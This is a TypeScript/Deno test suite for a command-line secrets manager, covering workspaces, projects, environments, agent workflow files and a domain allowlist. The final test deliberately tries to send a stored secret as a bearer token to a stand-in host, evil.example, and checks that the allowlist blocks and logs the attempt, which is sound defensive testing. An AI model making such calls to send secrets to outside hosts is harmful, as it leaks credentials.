/** Workspaces, projects, environments and the allowlist, as scripts use them. */
import assert from "node:assert/strict";
import { PASSWORD, sandboxWithProject, shapeOf } from "../support/cli.ts";

const stdin = `${PASSWORD}\n`;
const workspaceShape = {
  id: "string",
  name: "string",
  type: "string",
  role: "string",
  active: "boolean",
  created_at: "string",
};
const projectShape = {
  id: "string",
  name: "string",
  description: "string",
  workspace: { id: "string", name: "string" },
  environments: ["string"],
  active: "boolean",
  created_at: "string",
};
const environmentShape = {
  id: "string",
  name: "string",
  project: "string",
  active: "boolean",
  epoch: "number",
  created_at: "string",
};

Deno.test("a workspace is founded with the password, listed with an arrow, switched, renamed and deleted", async () => {
  await using sandbox = await sandboxWithProject();
  await sandbox.fails("password_required", 9, ["workspace", "create", "Acme"]);
  await sandbox.fails("login_refused", 7, ["workspace", "create", "Acme", "--password-stdin"], {
    stdin: "not it at all\n",
  });
  assert.deepEqual(
    shapeOf(await sandbox.json(["workspace", "create", "Acme Engineering", "--password-stdin"], { stdin })),
    workspaceShape,
  );
  assert.deepEqual(shapeOf(await sandbox.json(["workspace", "list"])), { workspaces: [workspaceShape] });
  assert.equal(await sandbox.ok(["workspace", "list"]), "→ Acme Engineering (personal)\n  Personal (personal)\n");
  await sandbox.fails("name_taken", 5, ["workspace", "create", "Personal", "--password-stdin"], { stdin });
  await sandbox.ok(["workspace", "switch", "Personal"]);
  assert.match(await sandbox.ok(["workspace", "list"]), /^→ Personal \(personal\)$/m);
  await sandbox.fails("workspace_not_found", 3, ["workspace", "switch", "Nowhere"]);
  const renamed = await sandbox.json(["workspace", "update", "Acme Engineering", "--name", "Acme"]);
  assert.equal(renamed["name"], "Acme");
  await sandbox.fails("missing_answer", 2, ["workspace", "update", "Acme"]);
  await sandbox.fails("missing_answer", 2, ["workspace", "delete", "Acme", "--password-stdin"], { stdin });
  const deleted = await sandbox.json(["workspace", "delete", "Acme", "--yes", "--password-stdin"], { stdin });
  assert.deepEqual(shapeOf(deleted), { id: "string", name: "string", removed_values: "number" });
  assert.equal(await sandbox.ok(["workspace", "list"]), "→ Personal (personal)\n");
});

Deno.test("members are shown as `email (role)`, with fingerprints in JSON", async () => {
  await using sandbox = await sandboxWithProject();
  assert.match(await sandbox.ok(["workspace", "members"]), /^you@example\.com \(owner\)/);
  assert.deepEqual(shapeOf(await sandbox.json(["workspace", "members"])), {
    members: [{
      user_id: "string",
      email: "string",
      role: "string",
      me: "boolean",
      fingerprint: "string",
      joined_at: "string",
    }],
  });
});

Deno.test("a project is created, listed as a table, used from a subfolder, updated and deleted", async () => {
  await using sandbox = await sandboxWithProject();
  const created = await sandbox.json(["project", "create", "jobs", "--description", "Nightly jobs", "--no-use"]);
  assert.deepEqual(shapeOf(created), { ...projectShape, path: "null", files: [] });
  assert.deepEqual(shapeOf(await sandbox.json(["project", "list"])), { projects: [projectShape] });
  const table = await sandbox.ok(["project", "list"]);
  assert.deepEqual(
    table.split("\n").filter((line) => line.includes("│")).map((line) => line.split("│").map((c) => c.trim())),
    [
      ["", "Project", "Workspace", "Description", ""],
      ["", "jobs", "Personal", "Nightly jobs", ""],
      ["", "my-app", "Personal", "—", ""],
    ],
  );
  await sandbox.fails("name_taken", 5, ["project", "create", "jobs"]);
  await sandbox.fails("project_not_found", 3, ["project", "use", "nothing"]);
  await Deno.mkdir(`${sandbox.folder}/deep/er`, { recursive: true });
  const used = await sandbox.json(["project", "use", "jobs", "--env", "staging"], { cwd: `${sandbox.folder}/deep` });
  assert.deepEqual(shapeOf(used), { ...projectShape, path: "string", files: ["string"] });
  const status = await sandbox.json(["status"], { cwd: `${sandbox.folder}/deep/er` });
  assert.deepEqual([(status["project"] as { name: string }).name, status["environment"]], ["jobs", "staging"]);
  const updated = await sandbox.json(["project", "update", "jobs", "--name", "tasks", "--description", ""]);
  assert.deepEqual([updated["name"], updated["description"]], ["tasks", ""]);
  await sandbox.fails("missing_answer", 2, ["project", "update", "tasks"]);
  await sandbox.fails("missing_answer", 2, ["project", "delete", "tasks"]);
  const deleted = await sandbox.json(["project", "delete", "tasks", "--confirm"]);
  assert.deepEqual(shapeOf(deleted), { id: "string", name: "string", removed_values: "number" });
  await sandbox.fails("project_not_found", 3, ["project", "delete", "tasks", "--yes"]);
});

Deno.test("a folder that comes to belong to a project tells AI assistants how to work there, and keeps what it says already", async () => {
  await using sandbox = await sandboxWithProject();
  const [fresh, own] = [`${sandbox.folder}/fresh`, `${sandbox.folder}/own`];
  await Deno.mkdir(fresh);
  await Deno.mkdir(`${own}/.agent/workflows`, { recursive: true });
  await Deno.writeTextFile(`${own}/.agent/workflows/agentsecrets.md`, "mine");
  const created = await sandbox.ok(["project", "create", "fresh"], { cwd: fresh });
  assert.match(created, /wrote \.agent\/workflows\/agentsecrets\.md, \.env\.example\n/);
  assert.match(await Deno.readTextFile(`${fresh}/.agent/workflows/agentsecrets.md`), /^---\ndescription: /);
  assert.deepEqual((await sandbox.json(["project", "use", "fresh"], { cwd: own }))["files"], [".env.example"]);
  assert.equal(await Deno.readTextFile(`${own}/.agent/workflows/agentsecrets.md`), "mine");
  assert.equal(await sandbox.ok(["project", "use", "fresh"], { cwd: own }), "✓ This folder belongs to fresh\n");
});

Deno.test("environments are listed with an arrow, switched per person, created and deleted", async () => {
  await using sandbox = await sandboxWithProject();
  assert.equal(await sandbox.ok(["environment", "list"]), "→ development\n  staging\n  production\n");
  assert.deepEqual(shapeOf(await sandbox.json(["environment", "create", "preview"])), environmentShape);
  assert.deepEqual(shapeOf(await sandbox.json(["environment", "switch", "preview"])), environmentShape);
  assert.deepEqual(shapeOf(await sandbox.json(["environment", "list"])), { environments: [environmentShape] });
  assert.match(await sandbox.ok(["environment", "list"]), /^→ preview$/m);
  await sandbox.fails("environment_not_found", 3, ["environment", "switch", "nowhere"]);
  await sandbox.fails("name_taken", 5, ["environment", "create", "staging"]);
  await sandbox.fails("missing_answer", 2, ["environment", "delete", "preview"]);
  assert.deepEqual(shapeOf(await sandbox.json(["environment", "delete", "preview", "--yes"])), {
    id: "string",
    name: "string",
    removed_values: "number",
  });
});

Deno.test("the allowlist changes with the password only, is a table, and its log shows changes and refusals", async () => {
  await using sandbox = await sandboxWithProject();
  const add = ["workspace", "allowlist", "add"];
  await sandbox.fails("password_required", 9, [...add, "api.stripe.com"]);
  await sandbox.fails("login_refused", 7, [...add, "api.stripe.com", "--password-stdin"], {
    stdin: "wrong password\n",
  });
  await sandbox.fails("invalid_allowlist_entry", 2, [...add, "not a host", "--password-stdin"], { stdin });
  assert.equal((await sandbox.json(["workspace", "allowlist", "list"]))["version"], 0);

  const changed = await sandbox.json([...add, "api.stripe.com", "API.OpenAI.com", "--password-stdin"], { stdin });
  const allowlist = {
    workspace: "string",
    version: "number",
    entries: [{ domain: "string", added_by: "string", added_by_id: "string", added_at: "string" }],
  };
  assert.deepEqual(shapeOf(changed), { changed: ["string"], unchanged: [], allowlist });
  assert.deepEqual(shapeOf(await sandbox.json(["workspace", "allowlist", "list"])), allowlist);
  const rows = (await sandbox.ok(["workspace", "allowlist", "list"])).split("\n").filter((line) => line.includes("│"));
  assert.deepEqual(rows.map((line) => line.split("│").map((cell) => cell.trim())[1]), [
    "Domain",
    "api.stripe.com",
    "api.openai.com",
  ]);
  assert.match(rows[1]!, /│ you@example\.com │ \d{4}-\d\d-\d\d \d\d:\d\d │/);

  const again = await sandbox.json([...add, "api.stripe.com", "--password-stdin"], { stdin });
  assert.deepEqual(again["unchanged"], ["api.stripe.com"]);
  await sandbox.ok(["workspace", "allowlist", "remove", "api.openai.com", "--password-stdin"], { stdin });

  await sandbox.ok(["secrets", "set", "KEY", "--stdin"], { stdin: "long enough value" });
  const { code } = await sandbox.run(["call", "--url", "https://evil.example/", "--bearer", "KEY"]);
  assert.equal(code, 4);
  const log = await sandbox.json(["workspace", "allowlist", "log"]);
  assert.deepEqual(shapeOf(log), {
    changes: [{ version: "number", at: "string", by: "string", by_id: "string", added: ["string"], removed: [] }],
    blocked: [{
      id: "string",
      at: "string",
      domain: "string",
      method: "string",
      target_url: "string",
      reason: "string",
      agent_id: "string",
    }],
  });
  const text = await sandbox.ok(["workspace", "allowlist", "log"]);
  assert.match(text, /changed {2}\+api\.stripe\.com \+api\.openai\.com/);
  assert.match(text, /changed {2}-api\.openai\.com/);
  assert.match(text, /blocked {2}GET https:\/\/evil\.example\/ {2}domain_not_in_allowlist/);
  assert.equal((await sandbox.ok(["workspace", "allowlist", "log", "--last", "1"])).split("\n").length, 2);
});
